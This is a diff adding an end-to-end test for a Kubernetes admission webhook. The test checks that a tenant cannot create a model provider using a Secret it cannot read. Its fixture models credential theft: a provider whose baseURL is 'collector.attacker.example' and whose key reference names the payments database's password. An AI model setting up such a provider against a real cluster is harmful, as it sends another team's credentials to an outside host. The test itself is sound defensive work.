@@ -357,6 +357,46 @@ TEST_F(WebhookE2E, CrossTenantRefusalsNameNoOtherTenantsObjects) {
 
 // A new certificate from the same CA replaces the files under the running process: the next
 // handshake presents it, verified like the API server verifies it, and the pid has not changed.
+// A tenant who may write providers but not read a Secret cannot make the gateway use it: the
+// webhook asks the API server (SubjectAccessReview) as the requesting user, here impersonated.
+TEST_F(WebhookE2E, AProviderMayUseOnlyASecretItsAuthorCanRead) {
+  const std::string user = unique_name("tenant");
+  const json role = {{"apiVersion", "rbac.authorization.k8s.io/v1"}, {"kind", "Role"},
+                     {"metadata", {{"name", user}, {"namespace", "team-a"}}},
+                     {"rules", {{{"apiGroups", {"plano-operator.io"}}, {"resources", {"modelproviders"}},
+                                 {"verbs", {"get", "list", "create", "update", "patch", "delete"}}},
+                                {{"apiGroups", {""}}, {"resources", {"secrets"}}, {"resourceNames", {"own-key"}}, {"verbs", {"get"}}}}}};
+  const json binding = {{"apiVersion", "rbac.authorization.k8s.io/v1"}, {"kind", "RoleBinding"},
+                        {"metadata", {{"name", user}, {"namespace", "team-a"}}},
+                        {"roleRef", {{"apiGroup", "rbac.authorization.k8s.io"}, {"kind", "Role"}, {"name", user}}},
+                        {"subjects", {{{"apiGroup", "rbac.authorization.k8s.io"}, {"kind", "User"}, {"name", user}}}}};
+  apply_ok(manifest_of({role, binding}, "tenant-role"));
+  auto provider_using = [&](const std::string& name, const std::string& secret) {
+    return manifest_of({provider("team-a", name, "team-a", "no-such-gateway",
+                                 {{"model", "custom/collector"}, {"baseURL", "https://collector.attacker.example/v1"},
+                                  {"providerInterface", "openai"}, {"accessKeySecretRef", {{"name", secret}, {"key", "password"}}}})},
+                       name);
+  };
+  // The payments database's password: the tenant gets Forbidden reading it, and so is refused.
+  EXPECT_NE(kubectl("--as " + user + " -n team-a get secret payments-db").code, 0);
+  const auto stolen = provider_using("steal", "payments-db");
+  KubectlResult r;
+  ASSERT_TRUE(eventually([&] { return (r = kubectl("--as " + user + " apply " + yaml_of(stolen))).code != 0; }, 20s, 200ms)) << r.out;
+  EXPECT_TRUE(contains(r.err, "spec.accessKeySecretRef.name: " + user + " may not read Secret team-a/payments-db")) << r.err;
+  EXPECT_TRUE(existing(stolen).empty()) << "a refused provider was stored";
+  // Whether the Secret exists makes no difference to the answer, so the refusal reveals nothing.
+  const auto missing = provider_using("probe", "no-such-secret");
+  r = kubectl("--as " + user + " apply --dry-run=server " + yaml_of(missing));
+  EXPECT_TRUE(contains(r.err, "may not read Secret team-a/no-such-secret")) << r.err;
+  // A Secret the tenant may read is fine, and an administrator may use any.
+  const auto own = provider_using("own", "own-key");
+  r = kubectl("--as " + user + " apply --dry-run=server " + yaml_of(own));
+  EXPECT_EQ(r.code, 0) << r.err;
+  r = kubectl("apply --dry-run=server " + yaml_of(stolen));
+  EXPECT_EQ(r.code, 0) << r.err;
+  kubectl("delete rolebinding,role -n team-a " + user);
+}
+
 TEST_F(WebhookE2E, CertificateRotationTakesEffectWithoutARestart) {
   const pid_t pid = g->webhook->pid();
   const auto before = served_serial(g->port, g->pki->ca_cert());
